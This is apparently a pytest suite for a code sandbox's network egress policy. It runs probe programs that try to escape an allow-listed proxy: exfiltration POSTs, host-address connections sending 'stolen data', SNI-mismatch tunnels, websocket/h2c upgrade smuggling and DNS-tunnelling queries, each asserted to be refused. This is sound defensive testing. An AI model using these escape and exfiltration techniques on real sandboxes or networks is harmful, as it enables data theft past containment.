"""The network policy on the real engine: nothing by default; with --network deps, a read-only,
allow-listed egress through the proxy, every request on the record. Nothing leaves this machine:
the "outside" is a Docker network of local test servers that the test creates and removes."""

from __future__ import annotations

import json
import socket
import time
from collections.abc import Iterator
from pathlib import Path

import docker
import pytest

from mai_safety.application.errors import ConfigurationError, SandboxUnavailable
from mai_safety.application.executions import MaiSafety
from mai_safety.domain.errors import InvalidSubmission
from mai_safety.domain.levels import Provenance
from mai_safety.domain.network import NetworkMode, NetworkNotAllowed
from mai_safety.infrastructure.sandbox.supervisors import supervisor_label
from mai_safety.infrastructure.bootstrap import bootstrap
from mai_safety.infrastructure.settings import DEFAULT_IMAGE

from .cli_helpers import policies_with, run_cli
from .conftest import settings_for
from .network_world import World, start_world, stop_world


@pytest.fixture(scope="module")
def world(docker_client: docker.DockerClient, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    made = start_world(docker_client, tmp_path_factory.mktemp("world"), DEFAULT_IMAGE)
    try:
        for address in made.hosts.values():
            _wait_for_http(address)
        yield made
    finally:
        stop_world(docker_client, made)


def _wait_for_http(address: str) -> None:
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        try:
            socket.create_connection((address, 80), timeout=0.5).close()
            return
        except OSError:
            time.sleep(0.1)
    raise AssertionError(f"test server {address} did not start")


@pytest.fixture
def policies(world: World, tmp_path: Path) -> Path:
    return policies_with(
        tmp_path,
        network={"allow": ["docs.mai-test"], "upstream_network": world.network, "max_download": "1m"},
    )


@pytest.fixture
def app(policies: Path, tmp_path: Path, world: World, monkeypatch: pytest.MonkeyPatch, docker_client) -> Iterator[MaiSafety]:  # type: ignore[no-untyped-def]
    # The user's own pip configuration names the local index: the allow-list is derived from it.
    monkeypatch.setenv("PIP_INDEX_URL", "http://index.mai-test/simple")
    monkeypatch.delenv("PIP_EXTRA_INDEX_URL", raising=False)
    application = bootstrap(settings_for(f"sqlite:///{tmp_path / 'ledger.sqlite'}", policies))
    yield application
    application.close()
    # This process's networks only: the other worker's egress tests make and remove theirs meanwhile.
    ours = {"label": ["mai-safety.managed=1", f"mai-safety.supervisor={supervisor_label()}"]}
    left = docker_client.networks.list(filters=ours)
    assert not left, f"networks left behind: {[network.name for network in left]}"


def _network_record(app: MaiSafety, execution_id: str) -> dict:
    return app.history(execution_id)[-1]["outcome"]["observations"]["network"]


PROBE = """
import json, socket, ssl, urllib.request, urllib.error, http.client, os
results = {}
def attempt(name, action):
    try:
        results[name] = action()
    except urllib.error.HTTPError as error:
        results[name] = f"HTTP {error.code}"
    except Exception as error:
        results[name] = type(error).__name__
def get(url, data=None):
    return urllib.request.urlopen(urllib.request.Request(url, data=data), timeout=10).read().decode()[:40]
def https(host, sni):
    proxy = os.environ["HTTPS_PROXY"].split("//")[1]
    connection = http.client.HTTPSConnection(proxy.split(":")[0], int(proxy.split(":")[1]), timeout=10,
                                             context=ssl._create_unverified_context())
    connection.set_tunnel(host, 443)
    connection.connect()
    if sni != host:  # reopen the TLS layer over the same tunnel with another name
        raw = connection.sock.unwrap() if hasattr(connection.sock, "unwrap") else connection.sock
    context = ssl._create_unverified_context()
    connection.sock = context.wrap_socket(connection.sock if sni == host else raw, server_hostname=sni) if sni != host else connection.sock
    connection.request("GET", "/index.html")
    return connection.getresponse().read().decode()[:40]
attempt("get_allowed", lambda: get("http://docs.mai-test/index.html"))
attempt("post_allowed", lambda: get("http://docs.mai-test/index.html", data=b"secret=1"))
attempt("get_unlisted", lambda: get("http://evil.mai-test/index.html"))
attempt("get_raw_ip", lambda: get("http://DOCS_IP/index.html"))
attempt("https_allowed", lambda: https("docs.mai-test", "docs.mai-test"))
attempt("dns", lambda: socket.getaddrinfo("docs.mai-test", 80))
attempt("direct", lambda: socket.create_connection(("DOCS_IP", 80), timeout=3) and "connected")
print(json.dumps(results))
"""


def test_without_network_every_connection_fails(world: World, policies: Path, tmp_path: Path, docker_client) -> None:  # type: ignore[no-untyped-def]
    app = bootstrap(settings_for(f"sqlite:///{tmp_path / 'none.sqlite'}", policies))
    try:
        program = PROBE.replace("DOCS_IP", world.hosts["docs.mai-test"])
        report = app.run(program.encode())
        results = json.loads(report.stdout)
        assert all(isinstance(value, str) and not value.startswith("the documentation") for value in results.values()), results
        assert results["direct"] == "OSError" or results["direct"].endswith("Error")
        assert _record_mode(app, report.execution_id) == "none"
    finally:
        app.close()


def _record_mode(app: MaiSafety, execution_id: str) -> str:
    return app.history(execution_id)[1]["network"]["mode"]


def test_egress_lets_reads_of_allowed_hosts_through_and_refuses_everything_else(app: MaiSafety, world: World) -> None:
    program = PROBE.replace("DOCS_IP", world.hosts["docs.mai-test"])
    report = app.run(program.encode(), network=NetworkMode.DEPS)
    assert report.status == "completed", report.stderr
    results = json.loads(report.stdout)
    assert results["get_allowed"] == "the documentation page\n"
    assert results["https_allowed"] == "the documentation page\n"
    assert results["post_allowed"] == "HTTP 403"
    assert results["get_unlisted"] == "HTTP 403"
    assert results["get_raw_ip"] == "HTTP 403"
    assert results["dns"] == "gaierror"
    assert results["direct"] != "connected"
    record = _network_record(app, report.execution_id)
    seen = {(item["method"], item["host"], item["verdict"]) for item in record["requests"]}
    assert ("GET", "docs.mai-test", "allowed") in seen
    assert ("POST", "docs.mai-test", "refused") in seen
    assert ("GET", "evil.mai-test", "refused") in seen
    assert ("GET", world.hosts["docs.mai-test"], "refused") in seen
    assert ("CONNECT", "docs.mai-test", "allowed") in seen
    reasons = " ".join(item["reason"] for item in record["requests"])
    assert "read-only" in reasons and "allow-list" in reasons and "raw IP" in reasons
    assert app.history(report.execution_id)[1]["network"]["allow"][:1] == ["docs.mai-test"]


SNI_MISMATCH = """
import os, socket, ssl
proxy = os.environ["HTTPS_PROXY"].split("//")[1]
host, port = proxy.split(":")
sock = socket.create_connection((host, int(port)), timeout=10)
sock.sendall(b"CONNECT docs.mai-test:443 HTTP/1.1\\r\\nHost: docs.mai-test:443\\r\\n\\r\\n")
print(sock.recv(1024).split(b"\\r\\n")[0].decode())
try:
    tls = ssl._create_unverified_context().wrap_socket(sock, server_hostname="evil.mai-test")
    tls.sendall(b"GET /index.html HTTP/1.1\\r\\nHost: evil.mai-test\\r\\n\\r\\n")
    print("answered", tls.recv(100))
except (OSError, ssl.SSLError) as error:
    print("refused", type(error).__name__)
"""


def test_a_tunnel_whose_tls_name_differs_from_its_connect_host_is_refused(app: MaiSafety) -> None:
    report = app.run(SNI_MISMATCH.encode(), network=NetworkMode.DEPS)
    assert report.status == "completed", report.stderr
    lines = report.stdout.splitlines()
    assert lines[0].endswith("200 Connection established") or " 200 " in lines[0]
    assert lines[1].startswith("refused")
    tunnels = [item for item in _network_record(app, report.execution_id)["requests"] if item["kind"] == "tunnel"]
    assert tunnels and tunnels[0]["verdict"] == "refused" and "SNI" in tunnels[0]["reason"]


def test_the_download_cap_stops_a_large_download(app: MaiSafety) -> None:
    program = b"""
import urllib.request
received = 0
try:
    with urllib.request.urlopen("http://docs.mai-test/big.bin", timeout=20) as response:
        while chunk := response.read(65536):
            received += len(chunk)
except Exception as error:
    print("stopped", type(error).__name__)
print(received)
"""
    report = app.run(program, network=NetworkMode.DEPS)
    received = int(report.stdout.split()[-1])
    assert received < 3 * 1024 * 1024
    requests = _network_record(app, report.execution_id)["requests"]
    assert any(item["verdict"] == "cut" and "download cap" in item["reason"] for item in requests), requests


def test_a_declared_requirement_is_installed_through_the_proxy_from_the_local_index(app: MaiSafety, world: World) -> None:
    program = b"# requirements: mai-hello==1.0\nimport mai_hello\nprint(mai_hello.GREETING)\n"
    report = app.run(program, network=NetworkMode.DEPS)
    assert report.status == "completed", (report.detail, report.stderr)
    assert report.stdout == "hello from the local index\n"
    ending = app.history(report.execution_id)[-1]["outcome"]["observations"]
    installed = ending["dependencies"]["installed"]
    assert [(item["name"], item["version"], item["sha256"]) for item in installed] == [
        ("mai-hello", "1.0", world.wheel_sha256)
    ]
    hosts = {(item["host"], item["verdict"]) for item in ending["network"]["requests"]}
    assert ("index.mai-test", "allowed") in hosts


def test_pip_in_the_sandbox_trusts_the_certificates_the_hosts_pip_is_configured_with(
    policies: Path, tmp_path: Path, world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Issue 23, finding 9 (b): behind a TLS-inspecting proxy the host's pip trusts the proxy's CA
    (its cert setting); the sandbox's pip said "self-signed certificate in certificate chain". The
    index here answers over TLS with a certificate of a throwaway CA that only that setting names."""
    assert world.index_ca is not None
    monkeypatch.setenv("PIP_INDEX_URL", "https://index.mai-test/simple")
    monkeypatch.delenv("PIP_EXTRA_INDEX_URL", raising=False)
    monkeypatch.setenv("PIP_CERT", str(world.index_ca))
    application = bootstrap(settings_for(f"sqlite:///{tmp_path / 'ledger.sqlite'}", policies))
    try:
        program = b"# requirements: mai-hello==1.0\nimport mai_hello\nprint(mai_hello.GREETING)\n"
        report = application.run(program, network=NetworkMode.DEPS)
        assert report.status == "completed", (report.detail, report.stderr)
        assert report.stdout == "hello from the local index\n"
        ending = application.history(report.execution_id)[-1]["outcome"]["observations"]
        assert [item["sha256"] for item in ending["dependencies"]["installed"]] == [world.wheel_sha256]
    finally:
        application.close()


def test_a_pip_certificate_setting_that_holds_a_private_key_is_not_carried_into_the_sandbox(
    app: MaiSafety, world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert world.index_ca is not None
    bundle = tmp_path / "bundle-with-a-key.pem"
    key = (world.index_ca.parent / "certs-index" / "key.pem").read_bytes()
    bundle.write_bytes(world.index_ca.read_bytes() + key)
    monkeypatch.setenv("PIP_CERT", str(bundle))
    with pytest.raises(SandboxUnavailable, match="holds a private key: it is not carried into the sandbox"):
        app.run(b"# requirements: mai-hello==1.0\nimport mai_hello\n", network=NetworkMode.DEPS)
    assert b"PRIVATE KEY" not in (tmp_path / "ledger.sqlite").read_bytes()


def test_bad_requirements_and_untrusted_code_are_refused_before_anything_is_recorded(app: MaiSafety) -> None:
    with pytest.raises(InvalidSubmission, match="not a requirement"):
        app.run(b"print(1)\n", network=NetworkMode.DEPS, requirements=["requests>>>2"])
    with pytest.raises(InvalidSubmission, match="URL or path"):
        app.run(b"print(1)\n", network=NetworkMode.DEPS, requirements=["evil @ https://example.invalid/e.whl"])
    with pytest.raises(NetworkNotAllowed):
        app.run(b"print(1)\n", network=NetworkMode.DEPS, provenance=Provenance.EXTERNAL)
    assert app.verify().checked == 0


@pytest.mark.parametrize(
    ("entry", "problem"),
    [("https://docs.example.org/", "is a URL"), ("docs.*.org", "wildcard"), ("10.0.0.0/8", "URL"), ("192.168.1.1", "IP address")],
)
def test_an_allow_list_entry_that_is_not_a_host_name_is_named(tmp_path: Path, entry: str, problem: str) -> None:
    policies = policies_with(tmp_path, network={"allow": ["docs.example.org", entry]})
    with pytest.raises(ConfigurationError, match=f"allow.1: allow-list entry '{entry}'") as raised:
        bootstrap(settings_for(f"sqlite:///{tmp_path / 'l.sqlite'}", policies))
    assert problem in raised.value.message


def test_the_cli_takes_the_network_mode_and_requirements(app: MaiSafety, policies: Path, tmp_path: Path) -> None:
    env = {"MAI_SAFETY_DATABASE_URL": f"sqlite:///{tmp_path / 'cli.sqlite'}", "MAI_SAFETY_POLICIES": str(policies)}
    bad = run_cli(["run", "-", "--network", "deps", "-r", "not a requirement!"], env, b"print(1)\n")
    assert bad.returncode == 2 and "not a requirement" in bad.stderr
    good = run_cli(["run", "-", "--network", "deps", "--json"], {**env, "PIP_INDEX_URL": "http://index.mai-test/simple"}, b"print(2)\n")
    assert good.returncode == 0, good.stderr
    assert json.loads(good.stdout)["stdout"] == "2\n"


def test_an_approved_execution_gets_the_network_and_requirements_it_asked_for(
    world: World, tmp_path: Path, docker_client  # type: ignore[no-untyped-def]
) -> None:
    # eval is HIGH here, and this policy lets untrusted (confirmed) code have the egress.
    policies = policies_with(
        tmp_path,
        assessment={"bandit.rules": {"B307": "HIGH"}},
        network={"allow": ["docs.mai-test"], "upstream_network": world.network, "trust_levels": ["standard", "untrusted"]},
    )
    env = {
        "MAI_SAFETY_DATABASE_URL": f"sqlite:///{tmp_path / 'ledger.sqlite'}",
        "MAI_SAFETY_POLICIES": str(policies),
        "PIP_INDEX_URL": "http://index.mai-test/simple",
    }
    program = b"import mai_hello\nprint(mai_hello.GREETING, eval('6 * 7'))\n"
    waiting = run_cli(["run", "-", "--network", "deps", "-r", "mai-hello==1.0", "--json"], env, program)
    assert waiting.returncode == 3, waiting.stderr
    execution_id = json.loads(waiting.stdout)["execution_id"]

    approved = run_cli(["approve", execution_id, "--json"], env)
    assert approved.returncode == 0, approved.stdout + approved.stderr
    assert json.loads(approved.stdout)["stdout"] == "hello from the local index 42\n"
    history = json.loads(run_cli(["history", execution_id, "--json"], env).stdout)
    started = next(event for event in history if event["event"] == "Started")
    assert started["network"] == history[1]["request"]["network"]
    assert started["network"]["requirements"] == ["mai-hello==1.0"] and "index.mai-test" in started["network"]["allow"]
    installed = history[-1]["outcome"]["observations"]["dependencies"]["installed"]
    assert [(item["name"], item["version"]) for item in installed] == [("mai-hello", "1.0")]


# --- attacks: the dependency network must reach the proxy and nothing of the host ------------------

HOST_PROBE = """
import json, socket, struct
def gateway():
    for line in open("/proc/net/route").read().splitlines()[1:]:
        fields = line.split()
        if fields[1] == "00000000":
            return socket.inet_ntoa(struct.pack("<L", int(fields[2], 16)))
targets = [gateway()] + TARGETS
results = {}
for address in targets:
    try:
        with socket.create_connection((address, PORT), timeout=2) as connection:
            connection.sendall(b"stolen data")
            results[address] = "connected"
    except OSError as error:
        results[address] = type(error).__name__
print(json.dumps(results))
"""


class _HostListener:
    """A listener on every IPv4 and IPv6 address of the host, counting what reaches it."""

    def __init__(self) -> None:
        import threading

        self.received: list[bytes] = []
        self.sockets = []
        four = socket.socket(socket.AF_INET)
        four.bind(("0.0.0.0", 0))
        self.port = four.getsockname()[1]
        six = socket.socket(socket.AF_INET6)
        six.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        six.bind(("::", self.port))
        for listener in (four, six):
            listener.listen()
            listener.settimeout(0.2)
            self.sockets.append(listener)
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            for listener in self.sockets:
                try:
                    connection, _ = listener.accept()
                except OSError:
                    continue
                connection.settimeout(1)
                try:
                    self.received.append(connection.recv(100) or b"(connected)")
                except OSError:
                    self.received.append(b"(connected)")
                connection.close()

    def close(self) -> None:
        self.stop.set()
        self.thread.join(5)
        for listener in self.sockets:
            listener.close()


def _host_addresses() -> list[str]:
    """Every IPv4 address of the host: its own interface, the default bridge, other Docker networks."""
    import psutil

    addresses = {
        address.address
        for name, entries in psutil.net_if_addrs().items()
        for address in entries
        if address.family == socket.AF_INET and not address.address.startswith("127.")
    }
    assert any(name == "docker0" for name in psutil.net_if_addrs()), "the default bridge is one of the targets"
    return sorted(addresses)


def test_the_dependency_network_reaches_no_address_of_the_host(app: MaiSafety, docker_client, world: World) -> None:  # type: ignore[no-untyped-def]
    listener = _HostListener()
    try:
        targets = _host_addresses()
        program = HOST_PROBE.replace("TARGETS", json.dumps(targets)).replace("PORT", str(listener.port))
        program += "import urllib.request\nprint(urllib.request.urlopen('http://docs.mai-test/index.html', timeout=10).read().decode())\n"
        report = app.run(program.encode(), network=NetworkMode.DEPS)
        assert report.status == "completed", report.stderr
        results = json.loads(report.stdout.splitlines()[0])
        assert len(results) >= 3, results  # the gateway, the default bridge and the host's own interface
        assert "connected" not in results.values(), results
        assert listener.received == [], listener.received
        assert report.stdout.splitlines()[1] == "the documentation page", "the proxy must still work"
    finally:
        listener.close()


def test_the_sandbox_on_the_dependency_network_has_no_ipv6(app: MaiSafety) -> None:
    program = b"print(open('/proc/sys/net/ipv6/conf/all/disable_ipv6').read().strip())\n"
    report = app.run(program, network=NetworkMode.DEPS)
    assert report.stdout.strip() == "1"


UPLOAD_TRICKS = """
import json, os, socket
proxy = os.environ["HTTP_PROXY"].split("//")[1]
host, port = proxy.split(":")
tricks = {
    "websocket": "GET http://docs.mai-test/index.html HTTP/1.1\\r\\nHost: docs.mai-test\\r\\nUpgrade: websocket\\r\\n"
                 "Connection: Upgrade\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n",
    "h2c": "GET http://docs.mai-test/index.html HTTP/1.1\\r\\nHost: docs.mai-test\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\n"
           "Upgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\\r\\n\\r\\n",
    "chunked_get": "GET http://docs.mai-test/index.html HTTP/1.1\\r\\nHost: docs.mai-test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
                   "5\\r\\nhello\\r\\n0\\r\\n\\r\\n",
    "odd_length": "GET http://docs.mai-test/index.html HTTP/1.1\\r\\nHost: docs.mai-test\\r\\nContent-Length: 5\\r\\n\\r\\nhello",
    "expect": "GET http://docs.mai-test/index.html HTTP/1.1\\r\\nHost: docs.mai-test\\r\\nExpect: 100-continue\\r\\n\\r\\n",
}
results = {}
for name, request in tricks.items():
    with socket.create_connection((host, int(port)), timeout=10) as connection:
        connection.sendall(request.encode())
        connection.sendall(b"\\x81\\x85\\x00\\x00\\x00\\x00frame")  # a client frame, if the upgrade went through
        reply = b""
        try:
            while True:  # past interim answers (100 Continue) to the final status line
                lines = [line for line in reply.split(b"\\r\\n") if line.startswith(b"HTTP/")]
                if lines and not lines[-1].split()[1].startswith(b"1"):
                    break
                chunk = connection.recv(200)
                if not chunk:
                    break
                reply += chunk
        except OSError:
            pass
        finals = [line for line in reply.split(b"\\r\\n") if line.startswith(b"HTTP/")]
        results[name] = finals[-1].decode(errors="replace") if finals else "closed"
print(json.dumps(results))
"""


def test_uploads_dressed_as_reads_are_refused_and_recorded(app: MaiSafety) -> None:
    report = app.run(UPLOAD_TRICKS.encode(), network=NetworkMode.DEPS)
    assert report.status == "completed", report.stderr
    results = json.loads(report.stdout)
    for name, status_line in results.items():
        assert " 403 " in status_line or status_line == "closed", (name, status_line)
    requests = _network_record(app, report.execution_id)["requests"]
    reasons = " ".join(item["reason"] for item in requests if item["verdict"] == "refused")
    assert "upgrade" in reasons and "read-only" in reasons
    assert not any(item["verdict"] == "allowed" for item in requests), requests


DNS_PROBE = """
import json, socket
# A query for a name nobody serves, sent straight to Docker's embedded resolver and to the sandbox's
# own configured one: an NXDOMAIN answer (rcode 3) would mean the query left the machine, which is
# a channel out (DNS tunnelling) that the proxy never sees.
query = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00" + b"".join(
    bytes([len(part)]) + part.encode() for part in "mai-safety-exfil-probe.example.com".split(".")) + b"\\x00\\x00\\x01\\x00\\x01"
results = {}
for resolver in ("127.0.0.11", "127.0.0.1"):
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    probe.settimeout(1)  # a local resolver answers at once; an answer from upstream within a second
    try:
        probe.sendto(query, (resolver, 53))
        answer = probe.recv(512)
        results[resolver] = "rcode %d" % (answer[3] & 0x0F)
    except OSError as error:
        results[resolver] = type(error).__name__
try:
    socket.getaddrinfo("mai-safety-exfil-probe.example.com", 80)
    results["getaddrinfo"] = "resolved"
except socket.gaierror as error:
    results["getaddrinfo"] = error.errno
print(json.dumps(results))
"""


def test_names_are_not_resolved_outside_from_the_dependency_network(app: MaiSafety) -> None:
    report = app.run(DNS_PROBE.encode(), network=NetworkMode.DEPS)
    assert report.status == "completed", report.stderr
    results = json.loads(report.stdout)
    assert results["127.0.0.11"] != "rcode 3" and results["127.0.0.1"] != "rcode 3", results  # nothing upstream answered
    assert results["getaddrinfo"] not in ("resolved", socket.EAI_NONAME), results
